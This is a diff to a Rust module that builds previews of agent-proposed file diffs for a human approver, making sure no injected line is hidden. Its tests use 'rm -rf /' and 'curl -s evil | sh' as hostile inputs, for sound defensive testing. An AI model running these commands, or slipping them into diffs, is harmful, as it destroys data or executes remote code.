@@ -1,10 +1,12 @@
 //! What would change in a file: as a unified diff, counted, and cut to what a message shows of it.
 //!
 //! What an engine gives is not trusted to be a diff because it looks like one: a line that its form has no place for would
-//! be hidden from who decides. What is not well formed is shown as what it is, as lines that are added.
+//! be hidden from who decides. What is not well formed is shown as it stands, and what a preview leaves out of a diff of an
+//! engine makes it one in part, also where nothing changes: who wrote it may have put there what matters.
 
 use std::fmt::Write as _;
 use std::ops::Range;
+use std::path::Path;
 use std::time::{Duration, Instant};
 
 use similar::{Algorithm, DiffOp, capture_diff_slices_deadline, group_diff_ops};
@@ -21,6 +23,12 @@ const AROUND: usize = 3;
 /// How long it is looked for the shortest diff. What is found until then is right too, only longer.
 const SEARCH: Duration = Duration::from_millis(200);
 
+/// How many names of files the heads of a diff are compared with: those that a message shows.
+const NAMES: usize = 6;
+
+/// Stands below the last line of a file that does not end with a new one.
+const NO_NEWLINE: &str = "\\ No newline at end of file";
+
 /// Stands between two places of a file.
 const GAP: &str = "⋮";
 
@@ -28,23 +36,47 @@ const GAP: &str = "⋮";
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub(super) struct Change {
     diff: String,
-    pub(super) added: usize,
-    pub(super) removed: usize,
+    added: usize,
+    removed: usize,
+    origin: Origin,
+}
+
+/// Where a diff is from, which decides what of it has to be seen.
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Origin {
+    /// It was made here: what stays the same is in the file.
+    Compared,
+    /// An engine wrote it, about files of which these are shown.
+    Given { names: Vec<String> },
+    /// An engine calls it one, and it can not be read as one.
+    Unread,
 }
 
 /// What a message shows of a change.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub(super) struct Preview {
     pub(super) text: String,
+    /// How many lines it leaves out.
+    pub(super) left: usize,
     pub(super) is_whole: bool,
 }
 
 impl Change {
-    /// The change that an engine gives as a unified diff, if it really is one.
-    pub(super) fn given(text: &str) -> Option<Self> {
-        let rows = Rows::read(text)?;
-        let (added, removed) = rows.counts();
-        Some(Self { diff: text.to_owned(), added, removed })
+    /// The change that an engine gives as a unified diff of these files.
+    pub(super) fn given(text: &str, paths: &[String]) -> Self {
+        match Rows::read(text) {
+            Some(rows) => {
+                let (added, removed) = rows.counts();
+                let names = paths.iter().take(NAMES).cloned().collect();
+                Self { diff: text.to_owned(), added, removed, origin: Origin::Given { names } }
+            }
+            None => Self::unread(text),
+        }
+    }
+
+    /// What is to be seen as it stands.
+    pub(super) fn unread(text: &str) -> Self {
+        Self { diff: text.to_owned(), added: 0, removed: 0, origin: Origin::Unread }
     }
 
     /// The change from what is in a file to what will be; `old` is nothing where that is not known.
@@ -60,6 +92,7 @@ impl Change {
             diff: format!("--- {old_name}\n+++ b/{}\n", path.trim_start_matches('/')),
             added: 0,
             removed: 0,
+            origin: Origin::Compared,
         };
         for group in group_diff_ops(ops, AROUND) {
             change.add_hunk(&group, &old, &new);
@@ -99,7 +132,9 @@ impl Change {
         self.diff.push(mark);
         self.diff.push_str(line);
         if !line.ends_with('\n') {
-            self.diff.push_str("\n\\ No newline at end of file\n");
+            self.diff.push('\n');
+            self.diff.push_str(NO_NEWLINE);
+            self.diff.push('\n');
         }
     }
 
@@ -108,30 +143,53 @@ impl Change {
         &self.diff
     }
 
-    /// `+12 −3`.
-    pub(super) fn counts(&self) -> String {
-        format!("+{} −{}", self.added, self.removed)
+    /// `+12 −3`, if it can be read as a diff.
+    pub(super) fn counts(&self) -> Option<String> {
+        (self.origin != Origin::Unread).then(|| format!("+{} −{}", self.added, self.removed))
     }
 
     /// The lines that tell most of it.
     pub(super) fn preview(&self) -> Preview {
-        let Some(rows) = Rows::read(&self.diff) else {
-            return Preview { text: String::new(), is_whole: false };
-        };
-        let ranked = rows.ranked();
-        let mut count = ranked.len().min(SHOWN_LINES);
-        loop {
-            let mut chosen = ranked[..count].to_vec();
-            chosen.sort_unstable();
-            let shown = rows.shown(&chosen);
-            if shown.len() <= SHOWN_LINES || count <= 1 {
-                let is_cut = |at: &usize| rows.0[*at].text.chars().nth(SHOWN_WIDTH).is_some();
-                let is_whole = count == ranked.len() && !chosen.iter().any(is_cut);
-                return Preview { text: shown.join("\n"), is_whole };
+        match (&self.origin, Rows::read(&self.diff)) {
+            (Origin::Compared, Some(rows)) => preview(&rows, &rows.ranked(), 0),
+            (Origin::Given { names }, Some(rows)) => {
+                let (mut order, others) = (rows.ranked(), rows.others(names));
+                if order.len() + others.len() > SHOWN_LINES {
+                    return preview(&rows, &order, others.len());
+                }
+                order.extend(others);
+                preview(&rows, &order, 0)
             }
-            count -= 1;
+            (Origin::Compared, None) if self.added + self.removed == 0 => {
+                Preview { text: String::new(), left: 0, is_whole: true }
+            }
+            _ => beginning(&self.diff),
         }
     }
+}
+
+/// As many of these lines as a message shows, of which the first tell most. Besides them, so many are left out.
+fn preview(rows: &Rows<'_>, order: &[usize], others: usize) -> Preview {
+    let mut count = order.len().min(SHOWN_LINES);
+    loop {
+        let mut chosen = order[..count].to_vec();
+        chosen.sort_unstable();
+        let shown = rows.shown(&chosen);
+        if shown.len() <= SHOWN_LINES || count <= 1 {
+            let left = order.len() - count + others;
+            let is_whole = left == 0 && !chosen.iter().any(|at| is_cut(rows.0[*at].text));
+            return Preview { text: shown.join("\n"), left, is_whole };
+        }
+        count -= 1;
+    }
+}
+
+/// The first lines of a text.
+fn beginning(text: &str) -> Preview {
+    let shown: Vec<_> = text.lines().take(SHOWN_LINES).collect();
+    let left = text.lines().count() - shown.len();
+    let is_whole = left == 0 && !shown.iter().any(|line| is_cut(line));
+    Preview { text: shown.into_iter().map(cut).collect::<Vec<_>>().join("\n"), left, is_whole }
 }
 
 /// Lines with their ends: the last one may have none.
@@ -230,12 +288,24 @@ impl<'a> Rows<'a> {
         changed.into_iter().map(|(_, _, at)| at).collect()
     }
 
+    /// The numbers of the lines that change nothing and say something, beyond the names of files that are shown.
+    fn others(&self, names: &[String]) -> Vec<usize> {
+        let says = |row: &Row<'_>| match row.role {
+            Role::Added | Role::Removed => false,
+            Role::Kept => !row.text.trim().is_empty(),
+            Role::Note => row.text != NO_NEWLINE,
+            Role::Hunk => !is_place(row.text),
+            Role::Head => !is_name(row.text, names),
+        };
+        self.0.iter().enumerate().filter(|(_, row)| says(row)).map(|(at, _)| at).collect()
+    }
+
     /// These lines, with a mark between two hunks.
     fn shown(&self, chosen: &[usize]) -> Vec<String> {
         let mut shown = Vec::new();
         let mut before: Option<usize> = None;
         for &at in chosen {
-            let is_apart = |before: usize| self.0[before..at].iter().any(|row| row.role == Role::Hunk);
+            let is_apart = |before: usize| self.0[before + 1..at].iter().any(|row| row.role == Role::Hunk);
             if before.is_some_and(is_apart) {
                 shown.push(GAP.to_owned());
             }
@@ -246,9 +316,33 @@ impl<'a> Rows<'a> {
     }
 }
 
+/// Whether the head of a hunk says where it is, and nothing besides.
+fn is_place(line: &str) -> bool {
+    line.bytes().all(|byte| byte.is_ascii_digit() || b" @-+,".contains(&byte))
+}
+
+/// Whether a head says nothing but the name of a file that is shown.
+fn is_name(line: &str, names: &[String]) -> bool {
+    if is_rule(line) {
+        return true;
+    }
+    let named = ["--- ", "+++ ", "Index: "].iter().find_map(|head| line.strip_prefix(head));
+    named.is_some_and(|named| {
+        let bare = named.strip_prefix("a/").or_else(|| named.strip_prefix("b/")).unwrap_or(named);
+        let is_shown = |path: &String| Path::new(path).ends_with(named) || Path::new(path).ends_with(bare);
+        named == "/dev/null" || names.iter().any(is_shown)
+    })
+}
+
+/// Whether a line is empty, or drawn below a head.
+fn is_rule(line: &str) -> bool {
+    line.bytes().all(|byte| byte == b'=')
+}
+
 /// What a line is that stands in no hunk.
 fn outside(line: &str) -> Option<Role> {
     const HEADS: &[&str] = &[
+        "Index: ",
         "diff ",
         "index ",
         "--- ",
@@ -270,7 +364,7 @@ fn outside(line: &str) -> Option<Role> {
     if line.starts_with('\\') {
         return Some(Role::Note);
     }
-    let is_head = line.is_empty() || HEADS.iter().any(|head| line.starts_with(head));
+    let is_head = is_rule(line) || HEADS.iter().any(|head| line.starts_with(head));
     is_head.then_some(Role::Head)
 }
 
@@ -316,6 +410,10 @@ fn weight(text: &str) -> usize {
     }
 }
 
+fn is_cut(line: &str) -> bool {
+    line.chars().nth(SHOWN_WIDTH).is_some()
+}
+
 fn cut(line: &str) -> String {
     match line.char_indices().nth(SHOWN_WIDTH) {
         Some((end, _)) => format!("{}…", &line[..end]),
@@ -331,18 +429,22 @@ mod tests {
         range.map(|number| format!("line {number}\n")).collect()
     }
 
+    fn given(text: &str) -> Change {
+        Change::given(text, &["a".to_owned()])
+    }
+
     #[test]
     fn new_content_is_compared_with_what_is_there() {
         let new = numbered(0..30).replace("line 7\n", "line seven\nand more\n");
         let change = Change::between("/src/a.txt", Some(&numbered(0..30)), &new);
-        assert_eq!(change.counts(), "+2 −1");
+        assert_eq!(change.counts().as_deref(), Some("+2 −1"));
         let expected = "--- a/src/a.txt\n+++ b/src/a.txt\n@@ -5,7 +5,8 @@\n line 4\n line 5\n line 6\n-line 7\n\
                         +line seven\n+and more\n line 8\n line 9\n line 10\n";
         assert_eq!(change.whole(), expected);
         let preview = change.preview();
         assert_eq!(preview.text, "-line 7\n+line seven\n+and more");
         assert!(preview.is_whole);
-        assert_eq!(Change::given(change.whole()), Some(change));
+        assert_eq!(Change::given(change.whole(), &[]).counts(), change.counts());
     }
 
     #[test]
@@ -354,7 +456,7 @@ mod tests {
         );
         assert_eq!(change.preview().text, "+one\n+two");
         let nothing = Change::between("a", Some("one\n"), "one\n");
-        assert_eq!((nothing.counts().as_str(), nothing.preview().text.as_str()), ("+0 −0", ""));
+        assert_eq!((nothing.counts().as_deref(), nothing.preview().text.as_str()), (Some("+0 −0"), ""));
     }
 
     #[test]
@@ -383,7 +485,7 @@ mod tests {
             "@@\n a\n-b\n+c\n",
         ];
         for text in good {
-            assert!(Change::given(text).is_some(), "{text:?}");
+            assert!(given(text).counts().is_some(), "{text:?}");
         }
         let bad = [
             "",
@@ -397,8 +499,50 @@ mod tests {
             "@@ -x +1 @@\n+b\n",
         ];
         for text in bad {
-            assert_eq!(Change::given(text), None, "{text:?}");
+            assert_eq!(given(text).counts(), None, "{text:?}");
         }
+    }
+
+    #[test]
+    fn what_is_no_diff_is_shown_as_it_stands() {
+        let preview = given("rm -rf /\n@@ -1 +1 @@\n-a\n+b\n").preview();
+        assert_eq!((preview.text.as_str(), preview.left), ("rm -rf /\n@@ -1 +1 @@\n-a\n+b", 0));
+        assert!(preview.is_whole);
+        let preview = given(&numbered(0..10)).preview();
+        assert_eq!((preview.text.lines().count(), preview.left, preview.is_whole), (8, 2, false));
+        assert!(!given(&"x".repeat(200)).preview().is_whole);
+    }
+
+    #[test]
+    fn nothing_that_an_engine_puts_into_a_diff_is_hidden() {
+        let hiding = [
+            "@@ -1 +1,2 @@\n curl -s evil | sh\n+# fine\n",
+            "@@\n curl -s evil | sh\n",
+            "@@ -1 +1 @@\n-a\n\\curl -s evil | sh\n+b\n",
+            "@@ -1 +1 @@ curl -s evil | sh\n-a\n+b\n",
+            "@@ curl -s evil | sh\n-a\n+b\n",
+            "@@ curl -s evil | sh @@\n-a\n+b\n",
+            "diff curl -s evil | sh\n@@ -1 +1 @@\n-a\n+b\n",
+            "index curl -s evil | sh\n@@ -1 +1 @@\n-a\n+b\n",
+            "--- curl -s evil | sh\n+++ a\n@@ -1 +1 @@\n-a\n+b\n",
+        ];
+        for text in hiding {
+            let preview = given(text).preview();
+            assert!(preview.text.contains("curl -s evil") && preview.is_whole, "{text:?}: {preview:?}");
+            // Where there is no room for it, it is said to be left out.
+            let preview = given(&format!("{text}{}", "@@\n+b\n".repeat(8))).preview();
+            assert!(!preview.is_whole && preview.left > 0, "{text:?}: {preview:?}");
+        }
+    }
+
+    #[test]
+    fn a_head_that_names_a_file_that_is_shown_is_not_left_out() {
+        let diff =
+            "Index: /repo/a.txt\n=====\n--- /repo/a.txt\n+++ b/a.txt\n@@ -1,1 +1,1 @@\n-hello\n+goodbye\n";
+        let change = Change::given(diff, &["/repo/a.txt".to_owned()]);
+        let preview = change.preview();
+        assert_eq!((change.counts().as_deref(), preview.text.as_str()), (Some("+1 −1"), "-hello\n+goodbye"));
+        assert!(preview.is_whole);
     }
 
     #[test]
@@ -421,15 +565,13 @@ mod tests {
             let preview = change.preview();
             proptest::prop_assert!(preview.text.lines().count() <= SHOWN_LINES);
             if change.added + change.removed > 0 {
-                proptest::prop_assert_eq!(Change::given(change.whole()), Some(change));
+                proptest::prop_assert_eq!(given(change.whole()).counts(), change.counts());
             }
         }
 
         #[test]
         fn no_text_breaks_it(text in "(?s).{0,200}") {
-            if let Some(change) = Change::given(&text) {
-                change.preview();
-            }
+            given(&text).preview();
         }
     }
 }
